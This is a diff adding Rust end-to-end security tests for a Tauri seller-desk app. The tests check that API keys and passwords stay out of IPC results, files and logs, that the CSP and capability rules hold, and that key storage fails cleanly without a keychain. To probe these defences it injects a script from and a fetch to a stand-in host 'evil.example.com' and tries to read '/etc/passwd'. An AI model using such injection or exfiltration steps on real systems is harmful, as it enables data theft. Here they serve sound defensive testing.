@@ -1,0 +1,331 @@
+//! Security of the real app after an end-to-end session: no secret (API key, account password)
+//! in any command result, event, file or output; the CSP refuses remote and inline scripts; a
+//! command the capabilities do not grant is refused; with no usable Secret Service adding a
+//! profile fails with a clear message and writes the key nowhere.
+//!
+//! The app writes no log files of its own (no log plugin: it prints a few lines to stderr, which
+//! tauri-driver's log captures); the checks below read that output and every file under the
+//! app's directories, logs included, for both secrets.
+
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use futures::FutureExt;
+
+use e2e::{files_containing, random_hex, wait_until, App, Market, TIMEOUT};
+use serde_json::{json, Value};
+use thirtyfour::prelude::*;
+
+/// World of Warcraft: the guide's game, with accounts offers.
+const WOW: &str = "550e8400-e29b-41d4-a716-446655440000";
+
+/// Records every value the page's IPC hands to a callback: command results, command errors and
+/// events all arrive through `__TAURI_INTERNALS__.runCallback`, which looks the callback up in
+/// the `callbacks` map; the map's `get` is wrapped on the instance, so nothing of Tauri changes.
+const RECORD_IPC: &str = r#"
+  const internals = window.__TAURI_INTERNALS__;
+  const map = internals.callbacks;
+  if (!window.__sdRecorded) {
+    window.__sdRecorded = [];
+    const get = Map.prototype.get.bind(map);
+    Object.defineProperty(map, 'get', { value: (id) => {
+      const cb = get(id);
+      if (!cb) return cb;
+      return (data) => {
+        try { window.__sdRecorded.push(JSON.stringify(data)); } catch (e) { window.__sdRecorded.push(String(data)); }
+        return cb(data);
+      };
+    }});
+  }
+  return true;
+"#;
+
+async fn recorded(app: &App) -> Vec<String> {
+    let v = app.js("return window.__sdRecorded || []", vec![]).await;
+    v.as_array().expect("array").iter().map(|s| s.as_str().unwrap_or_default().to_owned()).collect()
+}
+
+/// Calls a command through the page's IPC (as the UI does) and returns `{ok}` or `{err}`.
+async fn invoke(app: &App, cmd: &str, args: Value) -> Value {
+    let script = "const done = arguments[arguments.length - 1]; \
+        window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]) \
+          .then(r => done({ ok: r === undefined ? null : r }), e => done({ err: typeof e === 'string' ? e : JSON.stringify(e) }));";
+    app.driver
+        .execute_async(script, vec![json!(cmd), args])
+        .await
+        .unwrap_or_else(|e| panic!("invoke {cmd}: {e}"))
+        .json()
+        .clone()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_secret_leaves_the_keychain_csp_and_capabilities_hold() {
+    e2e::run("security", |app| async move {
+        assert_eq!(app.js(RECORD_IPC, vec![]).await, json!(true));
+
+        // --- A session: a GGChest profile with a key only this run knows, a connection test,
+        // its offers loaded, an accounts offer with a password, a second (GG) profile.
+        let key = app.new_seller(Market::GgChest).await;
+        let id = app.add_profile("E2E security", Market::GgChest, &key).await;
+        app.click("header-test-connection").await;
+        app.find("header-test-connection-ok").await;
+        let tag = random_hex(6);
+        let password = format!("pw-{}", random_hex(20));
+        let login = format!("hero_{tag}");
+        app.click("tab-new-offer").await;
+        app.find("ggc-wizard").await;
+        app.click("ggc-wizard-type-accounts").await;
+        app.click(&format!("ggc-wizard-game-{WOW}")).await;
+        app.find("ggc-wizard-step-body-attributes").await;
+        wait_until("the attributes to load", TIMEOUT, async || {
+            (app.exists("ggc-wizard-attributes").await || app.exists("ggc-wizard-attributes-none").await).then_some(())
+        })
+        .await;
+        for testid in app.testids("select[data-testid^=\"ggc-wizard-attribute-\"]").await {
+            let mut first = None;
+            for o in app.all_css(&format!("{} option", App::sel(&testid))).await {
+                if let Some(v) = o.attr("value").await.ok().flatten().filter(|v| !v.is_empty()) {
+                    first = Some(v);
+                    break;
+                }
+            }
+            app.choose(&testid, &first.expect("an option")).await;
+        }
+        app.click("ggc-wizard-next").await;
+        app.find("ggc-wizard-step-body-details").await;
+        app.click("ggc-wizard-input-delivery-method-manual").await;
+        let title = format!("E2E security {tag}");
+        app.fill("ggc-wizard-input-title", &title).await;
+        app.fill("ggc-wizard-input-description", "Made by the security test.").await;
+        app.fill("ggc-wizard-input-price", "25.00").await;
+        app.choose("ggc-wizard-input-delivery-time", "1h").await;
+        app.click("ggc-wizard-accounts-add").await;
+        app.fill("ggc-wizard-accounts-login-0", &login).await;
+        app.fill("ggc-wizard-accounts-password-0", &password).await;
+        app.fill("ggc-wizard-accounts-email-login-0", &format!("{login}@example.com")).await;
+        app.click("ggc-wizard-submit").await;
+        let offer = app
+            .wait_state(&format!("the offer “{title}”"), |s| {
+                s.ggchest_offers_of(&key).into_iter().find(|o| o.title == title).map(|o| o.id.clone())
+            })
+            .await;
+        app.find(&format!("ggc-offers-table-row-{offer}")).await;
+        let gg_key = app.new_seller(Market::Gg).await;
+        app.add_profile("E2E security GG", Market::Gg, &gg_key).await;
+        app.open_profile(&id).await;
+        app.find(&format!("ggc-offers-table-row-{offer}")).await;
+
+        // --- Every command result and event of the session: no key. (The password went to the
+        // marketplace, as the user asked; it is checked in files and output below.)
+        let seen = recorded(&app).await;
+        assert!(seen.len() >= 10, "the recorder saw the session's IPC ({} values)", seen.len());
+        assert!(seen.iter().any(|s| s.contains("masked_key")), "the recorder saw add_profile's result");
+        for secret in [&key, &gg_key] {
+            let hits: Vec<&String> = seen.iter().filter(|s| s.contains(secret.as_str())).collect();
+            assert!(hits.is_empty(), "a command result or event carries an API key: {hits:?}");
+        }
+        eprintln!("e2e: {} command results and events, none with a key", seen.len());
+
+        // --- Files and output: neither key nor the account password.
+        let mut read = 0;
+        for dir in app.dirs.app_dirs() {
+            for secret in [&key, &gg_key, &password] {
+                let (found, n) = files_containing(dir, secret);
+                assert!(found.is_empty(), "a secret is in the app's files: {found:?}");
+                read += n;
+            }
+        }
+        let store = app.dirs.config.join("profiles.json");
+        let store_text = std::fs::read_to_string(&store).expect("profiles.json");
+        assert!(store_text.contains(&id), "profiles.json holds the profile");
+        for secret in [&key, &gg_key, &password] {
+            assert!(!store_text.contains(secret.as_str()), "profiles.json holds a secret");
+            assert!(!app.driver_log().contains(secret.as_str()), "the app's output (its only log) holds a secret");
+        }
+        let logs: Vec<_> = app
+            .dirs
+            .app_dirs()
+            .iter()
+            .flat_map(|d| walk(d))
+            .filter(|p| p.extension().is_some_and(|e| e == "log") || p.components().any(|c| c.as_os_str() == "logs"))
+            .collect();
+        eprintln!("e2e: {read} file reads, no secret; log files under the app's directories: {logs:?}");
+
+        // --- CSP: present (Tauri sends it with the page; WebKit reports it whole in each
+        // violation), and a remote script, an inline script and a fetch elsewhere are refused.
+        let blocked = app
+            .driver
+            .execute_async(
+                "const done = arguments[arguments.length - 1]; const violations = []; let policy = null; \
+                 document.addEventListener('securitypolicyviolation', e => { \
+                   violations.push(e.violatedDirective + ' ' + e.blockedURI); policy = e.originalPolicy; }); \
+                 const remote = document.createElement('script'); remote.src = 'https://evil.example.com/x.js'; \
+                 document.head.appendChild(remote); \
+                 const inline = document.createElement('script'); inline.textContent = 'window.__sdPwned = 1;'; \
+                 document.head.appendChild(inline); \
+                 fetch('https://evil.example.com/collect').catch(() => {}); \
+                 setTimeout(() => done({ violations, policy, pwned: window.__sdPwned === 1 }), 1000);",
+                vec![],
+            )
+            .await
+            .expect("inject scripts")
+            .json()
+            .clone();
+        assert_eq!(blocked["pwned"], json!(false), "an injected inline script ran: {blocked}");
+        let policy = blocked["policy"].as_str().unwrap_or_default();
+        for directive in ["default-src 'self'", "script-src 'self'", "connect-src ipc: http://ipc.localhost"] {
+            assert!(policy.contains(directive), "the page's CSP has {directive}: {blocked}");
+        }
+        let violations: Vec<&str> =
+            blocked["violations"].as_array().expect("list").iter().filter_map(|v| v.as_str()).collect();
+        for (what, directive, uri) in [
+            ("the remote script", "script-src", "evil.example.com"),
+            ("the inline script", "script-src", "inline"),
+            ("the fetch elsewhere", "connect-src", "evil.example.com"),
+        ] {
+            assert!(
+                violations.iter().any(|v| v.starts_with(directive) && v.contains(uri)),
+                "{what} was refused by the CSP: {violations:?}"
+            );
+        }
+        eprintln!("e2e: CSP {policy:?}; refused: {violations:?}");
+
+        // --- Commands the capabilities do not grant are refused (plugins that are registered,
+        // commands of theirs that are not allowed, and a plugin that is not there).
+        for (cmd, args) in [
+            ("plugin:store|load", json!({ "path": "profiles.json" })),
+            ("plugin:dialog|message", json!({ "message": "hello", "title": "t" })),
+            ("plugin:window|set_title", json!({ "label": "main", "value": "pwned" })),
+            ("plugin:window-state|save_window_state", json!({ "flags": 63 })),
+            ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
+        ] {
+            let r = invoke(&app, cmd, args).await;
+            let err = r["err"].as_str().unwrap_or_else(|| panic!("{cmd} was not refused: {r}"));
+            assert!(err.contains("not allowed") || err.contains("not found"), "{cmd} refused with: {err}");
+            eprintln!("e2e: {cmd} refused: {err}");
+        }
+        // A granted command still works through the same path.
+        let ok = invoke(&app, "list_profiles", json!({})).await;
+        assert!(ok.get("ok").is_some(), "list_profiles is allowed: {ok}");
+        assert!(!ok.to_string().contains(&key), "list_profiles carries no key");
+    })
+    .await;
+}
+
+fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_owned()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                out.push(p);
+            }
+        }
+    }
+    out
+}
+
+/// The app started with a session bus address that leads nowhere: adding a profile shows the
+/// keychain error, and the key is in no file and no output. Its own small harness (the shared
+/// one gives the app the surrounding, working Secret Service).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn without_a_secret_service_adding_a_profile_fails_clearly_and_stores_nothing() {
+    let tools = e2e::preflight();
+    let root = tempfile::Builder::new().prefix("sellerdesk-e2e-nokeyring-").tempdir().expect("temp dir");
+    let dir = |n: &str| {
+        let p = root.path().join(n);
+        std::fs::create_dir_all(&p).expect("dir");
+        p
+    };
+    let (config, data, xdg_config, cache) = (dir("config"), dir("xdg-data"), dir("xdg-config"), dir("xdg-cache"));
+    let log_path = root.path().join("tauri-driver.log");
+    let sandbox = e2e::sandbox::Sandbox::start(e2e::sandbox::SandboxConfig::default()).await.expect("sandbox");
+    let key = format!("ggc_test_e2e_{}", random_hex(24));
+    let resp = reqwest::Client::new()
+        .post(format!("{}/sellers", sandbox.admin_url()))
+        .json(&json!({ "market": "ggchest", "key": key }))
+        .send()
+        .await
+        .expect("POST /sellers");
+    assert!(resp.status().is_success());
+
+    let port = free_port();
+    let native = free_port();
+    let log = std::fs::File::create(&log_path).expect("log");
+    let mut driver_proc = Command::new(&tools.tauri_driver)
+        .args(["--port", &port.to_string(), "--native-port", &native.to_string()])
+        .env("SELLERDESK_CONFIG_DIR", &config)
+        .env("XDG_DATA_HOME", &data)
+        .env("XDG_CONFIG_HOME", &xdg_config)
+        .env("XDG_CACHE_HOME", &cache)
+        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/sellerdesk-no-bus")
+        .stdin(Stdio::null())
+        .stdout(log.try_clone().expect("log"))
+        .stderr(log)
+        .spawn()
+        .expect("start tauri-driver");
+    let outcome = async {
+        wait_until("tauri-driver to listen", Duration::from_secs(15), async || {
+            tokio::net::TcpStream::connect(("127.0.0.1", port)).await.ok().map(|_| ())
+        })
+        .await;
+        let mut caps = thirtyfour::Capabilities::new();
+        caps.set("browserName", "wry").expect("caps");
+        caps.set("tauri:options", json!({ "application": e2e::app_binary() })).expect("caps");
+        let driver = WebDriver::new(format!("http://127.0.0.1:{port}"), caps).await.expect("WebDriver session");
+        let result = std::panic::AssertUnwindSafe(async {
+            let find = async |css: String| {
+                wait_until(&format!("`{css}`"), TIMEOUT, async || driver.find(By::Css(css.as_str())).await.ok()).await
+            };
+            let sel = |id: &str| format!("[data-testid=\"{id}\"]");
+            find(sel("welcome")).await;
+            find(sel("welcome-add-profile")).await.click().await.expect("click");
+            find(sel("profile-add-input-name")).await.send_keys("No keyring").await.expect("type");
+            find(sel("profile-add-market-ggchest")).await.click().await.expect("click");
+            let url = find(sel("profile-add-input-base-url")).await;
+            url.send_keys(Key::Control + "a").await.expect("select");
+            url.send_keys(Key::Backspace).await.expect("clear");
+            url.send_keys(sandbox.ggchest_base_url().as_str()).await.expect("type");
+            find(sel("profile-add-input-api-key")).await.send_keys(key.as_str()).await.expect("type");
+            find(sel("profile-add-submit")).await.click().await.expect("click");
+            let shown = wait_until("the keychain error", TIMEOUT, async || {
+                let text = driver.find(By::Css("body")).await.ok()?.text().await.ok()?;
+                text.contains("Keychain unavailable").then_some(text)
+            })
+            .await;
+            assert!(
+                shown.contains("Secret Service") || shown.contains("gnome-keyring"),
+                "the error says what to install or start: {shown}"
+            );
+            let profiles = driver.find_all(By::Css("[data-testid^=\"sidebar-profile-\"]")).await.unwrap_or_default();
+            assert!(profiles.is_empty(), "no profile was added without a keychain");
+        })
+        .catch_unwind()
+        .await;
+        let _ = tokio::time::timeout(Duration::from_secs(10), driver.quit()).await;
+        result
+    }
+    .await;
+    let _ = Command::new("kill").args(["-TERM", &driver_proc.id().to_string()]).status();
+    let _ = tokio::task::spawn_blocking(move || driver_proc.wait()).await;
+    sandbox.shutdown().await;
+    if let Err(panic) = outcome {
+        eprintln!("e2e: tauri-driver's log:\n{}", std::fs::read_to_string(&log_path).unwrap_or_default());
+        std::panic::resume_unwind(panic);
+    }
+    for d in [&config, &data, &xdg_config, &cache] {
+        let (found, _) = files_containing(d, &key);
+        assert!(found.is_empty(), "the key was written without a keychain: {found:?}");
+    }
+    let store = std::fs::read_to_string(config.join("profiles.json")).unwrap_or_default();
+    assert!(!store.contains(&key), "profiles.json holds the key");
+    assert!(!store.contains("No keyring"), "profiles.json holds no half-added profile: {store}");
+    assert!(!std::fs::read_to_string(&log_path).unwrap_or_default().contains(&key), "the output holds the key");
+}
+
+fn free_port() -> u16 {
+    std::net::TcpListener::bind(("127.0.0.1", 0)).and_then(|l| l.local_addr()).map(|a| a.port()).expect("port")
+}
